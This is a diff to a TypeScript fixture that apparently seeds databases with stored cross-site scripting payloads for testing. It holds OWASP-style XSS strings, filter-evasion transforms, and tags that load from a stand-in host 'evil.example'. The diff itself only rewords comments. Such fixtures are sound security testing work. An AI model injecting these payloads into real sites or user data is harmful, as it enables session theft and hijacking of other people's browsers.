@@ -1,5 +1,5 @@
-// What people put into fields to make the browsers of others run it; OWASP's filter evasion in our own words. Each would set
-// `window.pwned`, open a dialog, or ask a host that nobody here asks.
+// XSS payloads, following OWASP's filter evasion list in our own words. Each would set `window.pwned`, open a dialog, or request
+// a host that the app never uses.
 
 const run = 'window.pwned=1'
 const away = '//evil.example/x'
@@ -33,7 +33,7 @@ const plain = [
   `[x]: javascript:${run}`,
   `<javascript:${run}>`,
   `{{constructor.constructor('${run}')()}}`,
-  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is meant for somebody's template
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: it targets template engines
   '${window.pwned=1}',
   `'-${run}-'`,
   `</textarea><img src=x onerror=${run}>`,
@@ -41,13 +41,13 @@ const plain = [
   `</script><script>${run}</script>`,
   `--><img src=x onerror=${run}>`,
   `]]><img src=x onerror=${run}>`,
-  // Whatever follows these would be swallowed, so they come last.
+  // These would swallow the text after them, so they come last.
   `<base href="${away}">`,
   `<meta http-equiv=refresh content="0;url=${away}">`,
   `<style>@import "${away}";`,
 ]
 
-/** The same once more, as filters do not expect them. */
+/** The same payloads in disguise, to evade filters. */
 const disguises: ((text: string) => string)[] = [
   (text) => text,
   (text) => text.replace(/<\/?[a-z]+/g, (tag) => tag.toUpperCase()).replace(/javascript:/g, 'JaVaScRiPt:'),
@@ -59,7 +59,7 @@ const disguises: ((text: string) => string)[] = [
   (text) => text.replace(/</g, '<<').replace(/script/g, 'scr<script>ipt'),
 ]
 
-/** Texts to be stored: all of the payloads, a dozen in each. */
+/** Texts to store: all payloads, a dozen in each. */
 const storedTexts: string[] = inGroups(
   disguises.flatMap((disguise) => plain.map(disguise)),
   12,
@@ -71,7 +71,7 @@ function inGroups<T>(list: T[], size: number): T[][] {
   return Array.from({ length: Math.ceil(list.length / size) }, (_, n) => list.slice(n * size, (n + 1) * size))
 }
 
-/** SQL that puts one of the texts into every row of these columns, another one in each. */
+/** Returns SQL that puts one of the texts into every row of these columns, a different one in each. */
 export function storeIn(columns: Record<string, string[]>): string {
   const texts = `ARRAY[${storedTexts.map((text) => `$p$${text}$p$`).join(',')}]`
   return Object.entries(columns)
